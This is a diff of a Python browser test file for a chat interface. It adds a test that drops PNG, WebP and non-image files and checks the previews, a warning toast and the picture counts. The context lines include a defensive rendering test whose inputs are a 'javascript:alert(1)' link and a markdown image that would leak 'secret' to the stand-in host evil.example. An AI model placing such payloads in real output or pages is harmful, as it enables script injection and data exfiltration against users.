@@ -166,6 +166,32 @@ def test_files_are_sent_as_text_under_their_names(tab: Tab, served: Served) -> N
     tab.faultless()
 
 
+def test_pictures_are_shown_and_kept(tab: Tab, served: Served) -> None:
+    """Dropped as the browser has them: a WebP is drawn anew, since the daemon reads none."""
+    tab.open()
+    tab.js("""(async () => {
+      const canvas = new OffscreenCanvas(60, 40);
+      canvas.getContext('2d').fillRect(5, 5, 20, 20);
+      const data = new DataTransfer();
+      for (const kind of ['png', 'webp']) {
+        const blob = await canvas.convertToBlob({ type: `image/${kind}` });
+        data.items.add(new File([blob], `a.${kind}`, { type: blob.type }));
+      }
+      data.items.add(new File(['no picture'], 'b.png', { type: 'image/png' }));
+      dispatchEvent(new DragEvent('drop', { dataTransfer: data, cancelable: true }));
+    })()""")
+    tab.wait("document.querySelectorAll('.chip canvas').length === 2 && document.querySelector('.toast')", "both")
+    assert "no picture that this browser can read" in tab.text("#toasts")
+    tab.click(".send:not([disabled])")
+    tab.wait(DONE, "an answer")
+    assert tab.text(".turn .pictures") == "2 pictures"
+    assert last_turn(served, "@last")["pictures"] == 2
+    tab.click(".turn [aria-label='Answer again']")
+    tab.wait(f"document.querySelectorAll('.turn').length === 1 && {DONE}", "another answer")
+    assert last_turn(served, "@last")["pictures"] == 2
+    tab.faultless()
+
+
 def test_what_models_files_and_names_say_is_never_html(tab: Tab, served: Served) -> None:
     links = "[x](javascript:alert(1)) ![y](http://evil.example/?q=secret)"
     answer = f"{EVIL}\n\n```{EVIL}\n{EVIL}\n```\n\n{links}\n\n| {EVIL} |\n|---|\n| {EVIL} |"
